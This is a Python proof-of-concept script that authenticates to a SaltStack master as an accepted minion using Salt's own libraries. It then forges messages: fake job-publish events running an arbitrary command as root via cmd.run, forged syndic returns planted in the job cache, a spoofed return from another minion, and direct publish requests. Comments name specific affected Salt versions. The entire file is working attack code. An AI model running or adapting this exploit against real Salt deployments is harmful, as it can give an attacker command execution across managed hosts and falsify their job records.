"""
What an accepted minion can send its master besides its own returns, by Salt's own
code: forge.py MINION_CONFIG MASTER_IP RET_PORT JID COMMAND
"""

import sys

import salt.channel.client
import salt.config
import salt.crypt

config, ip, port, jid, command = sys.argv[1:]
opts = salt.config.minion_config(config)
opts.update(master_ip=ip, master_port=int(port), master_uri=f"tcp://{ip}:{port}")
own = {"id": opts["id"], "tok": salt.crypt.SAuth(opts).gen_token(b"salt")}
job = {
    "jid": jid, "tgt": "*", "tgt_type": "glob", "user": "root", "fun": "cmd.run",
    "arg": [command], "ret": "", "minions": ["*"], "missing": [],
}
returned = {"jid": jid, "id": "web-1", "fun": "cmd.run", "return": "forged", "retcode": 0, "success": True}
with salt.channel.client.ReqChannel.factory(opts) as channel:
    # Salt keeps these tags from the bus ...
    for tag in (f"salt/job/{jid}/new", f"salt/job/{jid}/publish", jid):
        channel.send({**own, "cmd": "_minion_event", "events": [{"tag": tag, "data": job}]})
    # ... but not in this form (3006.28, 3007.15, 3008.3).
    for tag in (f"salt/job/{jid}/new", f"salt/job/{jid}/publish"):
        channel.send({**job, **own, "cmd": "_minion_event", "tag": tag, "data": {}})
    # A load in the job cache, and with it the job of a syndic.
    channel.send({**own, "cmd": "_syndic_return", "load": [
        {"id": own["id"], "jid": jid, "fun": "cmd.run", "load": {**job, "kwargs": {}, "cmd": "publish"}, "return": {}}]})
    # A return of another minion, as an event and into the job cache.
    channel.send({**own, "cmd": "_minion_event", "events": [{"tag": f"salt/job/{jid}/ret/web-1", "data": returned}]})
    channel.send({**own, "cmd": "_syndic_return", "load": [
        {"id": own["id"], "jid": jid, "fun": "cmd.run", "return": {"web-1": returned}}]})
    # What a master publishes, sent to it.
    channel.send({**job, **own, "cmd": "publish"})
    channel.send({**job, **own, "cmd": "minion_pub"})
